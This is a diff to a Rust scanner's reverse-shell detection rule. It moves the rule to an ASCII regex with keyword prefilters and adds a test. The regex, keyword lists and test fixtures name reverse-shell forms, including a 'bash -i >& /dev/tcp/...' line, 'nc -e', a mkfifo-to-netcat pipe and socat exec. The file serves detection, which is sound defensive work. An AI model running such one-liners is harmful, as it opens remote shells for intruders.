@@ -1,12 +1,10 @@
 //! reverse-shell: a socket wired to a shell (`socket` + `os.dup2` + `pty.spawn`/`/bin/sh`), or
 //! the shell one-liners that do the same (`bash -i >& /dev/tcp/...`, `nc -e`).
 
-use std::sync::LazyLock;
-
-use regex::Regex;
-
 use crate::catalog::RuleInfo;
 use crate::finding::{Confidence, Severity};
+use crate::inspect::patterns::{self, AsciiRegex, Keywords};
+use crate::inspect::rules::{mark, string_marks};
 use crate::inspect::{Emitter, FileCx, FileKind};
 
 pub static INFO: RuleInfo = RuleInfo {
@@ -21,9 +19,29 @@ pub static INFO: RuleInfo = RuleInfo {
            library.",
 };
 
-static ONELINER: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)(/dev/(tcp|udp)/[\w.\-]+/\d+|\b(nc|ncat|netcat)\b[^\n]*\s-(e|c)\s*\S*(sh|cmd)|mkfifo[^\n]*\|\s*(nc|ncat)\b|socat\b[^\n]*exec:[^\n]*(sh|bash))").expect("regex")
-});
+static ONELINER: AsciiRegex = AsciiRegex::new(
+    r"(?i)(/dev/(tcp|udp)/[\w.\-]+/\d+|\b(nc|ncat|netcat)\b[^\n]*\s-(e|c)\s*\S*(sh|cmd)|mkfifo[^\n]*\|\s*(nc|ncat)\b|socat\b[^\n]*exec:[^\n]*(sh|bash))",
+);
+
+/// Literals one of which every match of [`ONELINER`] contains, but for the `nc -e` form.
+pub(crate) const WORDS: &[&str] = &["/dev/tcp/", "/dev/udp/", "mkfifo", "socat"];
+/// The `nc -e` form needs one of these...
+pub(crate) const NETCAT_WORDS: &[&str] = &["nc", "netcat"];
+/// ...and one of these.
+pub(crate) const NETCAT_FLAG_WORDS: &[&str] = &["-e", "-c"];
+
+/// Groups 0, 1 and 2: [`WORDS`], [`NETCAT_WORDS`], [`NETCAT_FLAG_WORDS`].
+static KEYWORDS: Keywords = Keywords::new(&[WORDS, NETCAT_WORDS, NETCAT_FLAG_WORDS]);
+
+/// Whether `text` matches [`ONELINER`], given which of the three keyword groups it has.
+fn oneliner(text: &str, words: bool, netcat: bool, flag: bool) -> bool {
+    (words || netcat && flag) && ONELINER.is_match(text)
+}
+
+fn oneliner_line(line: &str) -> bool {
+    let g = KEYWORDS.groups_in(line);
+    oneliner(line, g & 1 != 0, g & 2 != 0, g & 4 != 0)
+}
 
 fn shell_words(t: &str) -> bool {
     let l = t.to_ascii_lowercase();
@@ -44,13 +62,14 @@ fn shell_words(t: &str) -> bool {
 
 pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     if let Some(facts) = cx.facts {
+        let socket = facts.imports.contains_key("socket");
         let connect = facts.calls.iter().any(|c| {
             matches!(
                 c.name.as_str(),
                 "socket.create_connection"
                     | "socket.socket().connect"
                     | "socket.socket().connect_ex"
-            ) || c.method() == "connect" && facts.imports.contains_key("socket")
+            ) || socket && patterns::method_is(&c.name, "connect")
         });
         if connect {
             let dup2 = facts.calls.iter().find(|c| c.name == "os.dup2");
@@ -84,8 +103,10 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
                 }
             }
         }
-        for s in &facts.strings {
-            if ONELINER.is_match(&s.text) {
+        for (s, &m) in facts.strings.iter().zip(string_marks(cx)) {
+            let words = m & mark::REVERSE_SHELL != 0;
+            let netcat = m & mark::NETCAT != 0;
+            if oneliner(&s.text, words, netcat, m & mark::NETCAT_FLAG != 0) {
                 out.emit(
                     &INFO,
                     s.ctx.pick(Severity::Critical, Severity::Critical),
@@ -99,7 +120,7 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     }
     if cx.raw_pass || cx.kind == FileKind::Script {
         for (n, line) in cx.text_lines() {
-            if !line.trim_start().starts_with('#') && ONELINER.is_match(line) {
+            if !line.trim_start().starts_with('#') && oneliner_line(line) {
                 out.emit(
                     &INFO,
                     Severity::High,
@@ -115,6 +136,26 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn prefilter_and_ascii_build_agree_with_the_unicode_regex() {
+        let mut fragments = super::WORDS.to_vec();
+        fragments.extend(super::NETCAT_WORDS);
+        fragments.extend(super::NETCAT_FLAG_WORDS);
+        fragments.extend([
+            "bash -i >& /dev/tcp/192.0.2.1/4444",
+            "nc ",
+            "ncat",
+            " -e /bin/sh",
+            " -c cmd",
+            "mkfifo /tmp/f; cat /tmp/f | nc ",
+            "socat exec:bash",
+        ]);
+        for s in crate::inspect::patterns::test_corpus(&fragments, 10_000) {
+            let want = super::ONELINER.unicode_reference().is_match(&s);
+            assert_eq!(super::oneliner_line(&s), want, "{s:?}");
+        }
+    }
+
     use crate::finding::Severity;
     use crate::inspect::rules::testutil::worst;
 
